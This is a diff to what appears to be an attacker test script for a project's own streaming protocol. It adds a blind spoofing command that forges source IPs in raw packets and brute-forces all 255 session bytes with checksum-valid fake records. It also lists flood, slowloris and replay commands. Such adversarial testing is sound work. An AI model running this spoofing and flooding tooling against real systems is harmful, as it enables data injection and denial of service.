@@ -7,6 +7,8 @@ when it could do what it set out to (whatever ringfire did about it).
   attacker.py session SOURCE:PORT                 HELLO, print the session byte and token
   attacker.py udp-forge DST:PORT SESSION [SRC]    forged GAP, HEARTBEAT, DATA (far future), NAK, kind 42
   attacker.py spoof SRC:PORT DST:PORT SESSION SEQ DATA from SRC (a raw socket) at SEQ
+  attacker.py spoof-sweep SRC:PORT DST:PORT SEQ N  for every session byte 1-255, N self-checking
+                                                  records from SRC at SEQ.. (the filler a marker)
   attacker.py junk DST:PORT N [SRC]               N random datagrams
   attacker.py tcp-oversized SOURCE:PORT N         N connections that declare a 64 MiB body
   attacker.py tcp-slowloris SOURCE:PORT N SECS    N half-HELLOs, held SECS
@@ -75,8 +77,9 @@ def handshake(src, flags=0, rcvbuf=None):
     kind, _, _, _, body = read_frame(s)
     group = struct.unpack_from(">I", body, 0)[0]
     port, mtu, ttl, session, features, token = struct.unpack_from("<HHBBHQ", body, 4)
+    tag = struct.unpack_from("<Q", body, 24)[0] if len(body) >= 32 else 0
     return s, dict(capacity=capacity, slot=slot, first=first, group=group, port=port, session=session,
-                   token=token, features=features)
+                   token=token, features=features, tag=tag)
 
 
 def udp_socket():
@@ -87,7 +90,8 @@ def udp_socket():
 
 def cmd_session(src):
     s, g = handshake(src)
-    print(f"attacker: session {g['session']} token {g['token']} capacity {g['capacity']} first {g['first']}")
+    print(f"attacker: session {g['session']} token {g['token']} capacity {g['capacity']} first {g['first']} "
+          f"group {socket.inet_ntoa(struct.pack('>I', g['group']))} port {g['port']} tag {g['tag']}")
 
 
 def sender(src):
@@ -147,6 +151,81 @@ def cmd_spoof(src, dst, session, seq, slot="64"):
         raw_udp(src_ip, src_port, host, port, header(DATA, session, 1, slot, seq + i) + body)
         n += 1
     print(f"attacker: spoofed {n}")
+
+
+MASK64 = (1 << 64) - 1
+P1, P2, P3, P4, P5 = (0x9E3779B185EBCA87, 0xC2B2AE3D27D4EB4F, 0x165667B19E3779F9, 0x85EBCA77C2B2AE63,
+                      0x27D4EB2F165667C5)
+
+
+def rotl(x, r):
+    return ((x << r) | (x >> (64 - r))) & MASK64
+
+
+def xxh64(data, seed=0):
+    """XXH64 (the self-checking record's checksum, PROTOCOL.md §1.12), in Python: forged
+    records a `tail` would take for real ones."""
+    def rnd(acc, lane):
+        return (rotl((acc + lane * P2) & MASK64, 31) * P1) & MASK64
+    n, i = len(data), 0
+    if n >= 32:
+        v = [(seed + P1 + P2) & MASK64, (seed + P2) & MASK64, seed, (seed - P1) & MASK64]
+        while i + 32 <= n:
+            for k in range(4):
+                v[k] = rnd(v[k], struct.unpack_from("<Q", data, i + 8 * k)[0])
+            i += 32
+        h = (rotl(v[0], 1) + rotl(v[1], 7) + rotl(v[2], 12) + rotl(v[3], 18)) & MASK64
+        for k in range(4):
+            h = ((h ^ rnd(0, v[k])) * P1 + P4) & MASK64
+    else:
+        h = (seed + P5) & MASK64
+    h = (h + n) & MASK64
+    while i + 8 <= n:
+        h = (rotl(h ^ rnd(0, struct.unpack_from("<Q", data, i)[0]), 27) * P1 + P4) & MASK64
+        i += 8
+    if i + 4 <= n:
+        h = (rotl(h ^ (struct.unpack_from("<I", data, i)[0] * P1) & MASK64, 23) * P2 + P3) & MASK64
+        i += 4
+    while i < n:
+        h = (rotl(h ^ (data[i] * P5) & MASK64, 11) * P1) & MASK64
+        i += 1
+    h ^= h >> 33
+    h = (h * P2) & MASK64
+    h ^= h >> 29
+    h = (h * P3) & MASK64
+    return h ^ (h >> 32)
+
+
+MARKER = b"RFSPOOF!"
+
+
+def forged_record(seq, slot):
+    """A record that passes `tail`'s self-check, its filler the marker (not the real filler)."""
+    filler = (MARKER * (slot // len(MARKER) + 1))[:slot - 24]
+    head = struct.pack("<QQ", seq, time.monotonic_ns())
+    return head + struct.pack("<Q", xxh64(filler, xxh64(head))) + filler
+
+
+def cmd_spoof_sweep(src, dst, seq, n, slot="64"):
+    """The blind spoofer: it writes the source's address (and data port) into raw IPv4 headers
+    and sends N forged records at SEQ.. under every session byte, not knowing which is live."""
+    src_ip, src_port = ep(src)
+    host, port = ep(dst)
+    seq, n, slot = int(seq), int(n), int(slot)
+    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    sent = 0
+    for session in range(1, 256):
+        for i in range(n):
+            payload = header(DATA, session, 1, slot, seq + i) + forged_record(seq + i, slot)
+            udp = struct.pack("!HHHH", src_port, port, 8 + len(payload), 0) + payload
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.randrange(65536), 0, 1, 17, 0,
+                             socket.inet_aton(src_ip), socket.inet_aton(host))
+            ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
+            s.sendto(ip + udp, (host, 0))
+            sent += 1
+        time.sleep(0.002)  # paced: the mirror's socket buffer takes them all
+    print(f"attacker: spoofed {sent}")
 
 
 def cmd_junk(dst, n, src=None):
@@ -341,7 +420,7 @@ COMMANDS = {
     "session": cmd_session, "udp-forge": cmd_udp_forge, "spoof": cmd_spoof, "junk": cmd_junk,
     "tcp-oversized": cmd_tcp_oversized, "tcp-slowloris": cmd_tcp_slowloris, "tcp-flood": cmd_tcp_flood,
     "tcp-junk": cmd_tcp_junk, "nak-flood": cmd_nak_flood, "token": cmd_token, "punch": cmd_punch,
-    "listen": cmd_listen, "sniff-punch": cmd_sniff_punch, "replay": cmd_replay,
+    "spoof-sweep": cmd_spoof_sweep, "listen": cmd_listen, "sniff-punch": cmd_sniff_punch, "replay": cmd_replay,
 }
 
 if __name__ == "__main__":
